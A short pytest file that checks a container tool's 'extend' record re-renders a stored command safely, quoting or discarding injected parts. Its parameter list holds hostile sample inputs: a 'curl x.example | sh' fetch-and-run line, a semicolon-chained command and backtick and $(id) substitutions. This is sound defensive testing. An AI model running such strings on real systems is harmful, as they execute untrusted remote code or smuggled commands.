"""An extension describes itself; the file may come from a stranger."""

import pytest

from lumicontainer.extending.record import Record


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("lumicontainer extend a.sif 'timm>=1' -o b.sqsh", "'timm>=1' -o b.sqsh"),
        ("lumicontainer extend a.sif; curl x.example | sh", "'a.sif;' curl x.example '|' sh"),
        ("lumicontainer extend a.sif `id` $(id)", "a.sif '`id`' '$(id)'"),
        ("curl x.example | sh", "IMAGE PACKAGE -o FILE"),
        ("lumicontainer extend 'a.sif", "IMAGE PACKAGE -o FILE"),
        ("", "IMAGE PACKAGE -o FILE"),
    ],
)
def test_a_command_to_paste_is_one_call_of_extend(command: str, shown: str) -> None:
    record = Record("0", "a.sif", "0", {}, (), command)
    assert record.command_to_repeat().removeprefix("lumicontainer extend ").endswith(shown)
    assert record.command_to_repeat().startswith("lumicontainer extend ")
